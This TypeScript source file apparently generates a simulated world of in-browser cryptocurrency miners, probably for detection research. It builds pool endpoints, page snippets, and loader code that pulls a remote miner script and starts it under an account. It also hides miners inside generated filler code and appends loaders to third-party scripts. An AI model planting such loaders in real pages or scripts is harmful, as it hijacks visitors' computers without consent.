import { Random } from '../random.ts'
import type { Endpoint } from '../pool/endpoint.ts'
import { buildMinerScripts } from '../site/miner-scripts.ts'
import { type MinerSpec, completeSpec } from '../site/miner-spec.ts'
import { fillerScript } from '../text/filler.ts'
import type { Operator } from './history.ts'
import { type Service, authedmine, serviceOf, services } from './services.ts'

const poolPath = '/proxy'

/** Ways into the world's pools: one a service, one an operator with a miner of its own. */
export function endpointsOf(operators: readonly Operator[]): Endpoint[] {
  return [
    ...[...services, authedmine].filter(({ poolHost }) => poolHost !== '').map(({ poolHost }) => endpoint(poolHost, 'coinhive')),
    ...operators.filter(({ service }) => service === 'own').map((operator) => endpoint(ownPool(operator), 'stratum-login')),
  ]
}

const ownPool = ({ host }: Operator): string => `ws.${host}`

function endpoint(host: string, dialect: 'coinhive' | 'stratum-login'): Endpoint {
  return {
    url: `wss://${host}${poolPath}`,
    host,
    path: poolPath,
    dialect,
    encoding: 'json',
    transport: 'websocket',
    family: 'cryptonight',
    xorKey: 1,
    mode: 'answers',
  }
}

function minerText(label: string, at: Endpoint, account: string, more: Partial<MinerSpec>): string {
  const random = new Random(label)
  const spec = completeSpec(
    {
      family: at.family,
      load: 'third-party',
      thread: 'worker-blob',
      module: 'buffer',
      dialect: at.dialect,
      encoding: at.encoding,
      account,
      ...more,
    },
    random.fork('spec'),
  )
  const paths = { host: at.host, worker: '/worker.js', wasm: '/module.wasm' }
  return buildMinerScripts(spec, at, paths, random.fork('scripts')).main
}

const keyLiteral = 'LABKEYLABKEYLABKEYLABKEYLABKEYLA'

/** The script of a service as its sites load it: an object with a constructor that takes the site's key. Its octets are the lab's own. */
export function serviceScript(seed: number, service: Service): string {
  const [object = '', constructor = ''] = service.call.split('.')
  const at = endpoint(service.poolHost, 'coinhive')
  // Until the key stands in it as one plain literal: the style of a script is drawn.
  for (let attempt = 0; attempt < 200; attempt++) {
    const text = minerText(
      `world-service/${seed}/${service.id}/${attempt}`,
      at,
      keyLiteral,
      service.asksFirst ? { asking: 'asks-first' } : {},
    )
    const parts = text.split(new RegExp(`(["'])${keyLiteral}\\1`))
    if (parts.length !== 3) continue
    const main = `${parts[0]}labKey${parts[2]}`
    return `(function(w){function A(k){this.key=k}A.prototype.start=function(){var labKey=this.key;${main}};w.${object}={${constructor}:A}})(window);`
  }
  throw new RangeError(`no style writes the key of ${service.id} plainly`)
}

/** What a site that takes up a service writes into its page: without a scheme, for browsers ask for the page itself over TLS first. */
export function snippetOf(service: Service, account: string): string {
  return `<script src="//${service.host}${service.path}"></script>\n<script>var miner=new ${service.call}("${account}");miner.start();</script>`
}

/** The same as code in a script. */
function loaderCode(service: Service, account: string): string {
  return `(function(d){var s=d.createElement("script");s.src="//${service.host}${service.path}";s.onload=function(){new ${service.call}("${account}").start()};(d.head||d.body).appendChild(s)})(document);`
}

export const loaderPath = (accountIndex: number): string => `/s${accountIndex}/e.js`

/** What an operator's own host serves for one of its accounts. */
export function loaderScript(seed: number, operator: Operator, service: Service['id'], account: string): string {
  const random = new Random(`world-loader/${seed}/${operator.number}/${account}`)
  const around = fillerScript(random, 3000)
  if (service === 'own')
    return `${around}${minerText(`world-own/${seed}/${operator.number}`, endpoint(ownPool(operator), 'stratum-login'), account, {})}`
  return `${around}${loaderCode(serviceOf(service), account)}`
}

/** What stands at the end of a third party's script while it carries a miner. */
export const carriedCode = (service: Service['id'], account: string): string => loaderCode(serviceOf(service), account)
